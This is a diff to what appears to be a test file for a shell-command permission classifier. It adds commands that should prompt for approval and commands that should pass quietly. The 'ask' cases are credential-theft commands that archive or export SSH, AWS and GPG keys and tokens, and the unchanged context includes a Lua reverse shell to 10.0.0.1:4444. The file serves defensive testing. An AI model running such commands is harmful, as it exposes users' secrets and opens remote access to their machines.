@@ -18,6 +18,13 @@ const asks: Array<readonly [Expected, string]> = [
   ['ask', 'rsync -a ~/.gnupg/ ./backup/gnupg/'],
   ['ask', 'cat ~/.aws/credentials > creds.txt'],
   ['ask', 'base64 ~/.ssh/id_rsa > docs/key.b64'],
+  ['ask', 'tar czf creds.tgz ~/.aws ~/.ssh && mv creds.tgz public/'],
+  ['ask', 'zip -r keys.zip ~/.ssh'],
+  ['ask', '7z a keys.7z ~/.gnupg'],
+  ['ask', 'gpg --export-secret-keys -a > private.asc'],
+  ['ask', 'gh auth token > .token'],
+  ['ask', 'aws configure export-credentials > creds.json'],
+  ['ask', 'security find-generic-password -wa github > token.txt'],
   [
     'ask',
     `lua -e "require('socket');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"`,
@@ -30,6 +37,14 @@ const quiet: Array<readonly [Expected, string]> = [
   ['quiet', 'cp .env.example .env'],
   ['quiet', 'cp certs/dev.pem build/'],
   ['quiet', 'cat ~/.ssh/id_ed25519.pub > authorized_keys.txt'],
+  ['quiet', 'tar czf src.tgz src'],
+  ['quiet', 'tar xzf backup.tgz -C restore'],
+  ['quiet', 'zip -r site.zip dist'],
+  ['quiet', 'docker inspect web > inspect.json'],
+  ['quiet', 'pg_dump app_dev > backup.sql'],
+  ['quiet', 'pbpaste > notes.txt'],
+  ['quiet', 'printenv > env.txt'],
+  ['quiet', 'gpg --export -a me@example.com > public.asc'],
   ['quiet', `lua -e 'print(os.time())'`],
 ];
 
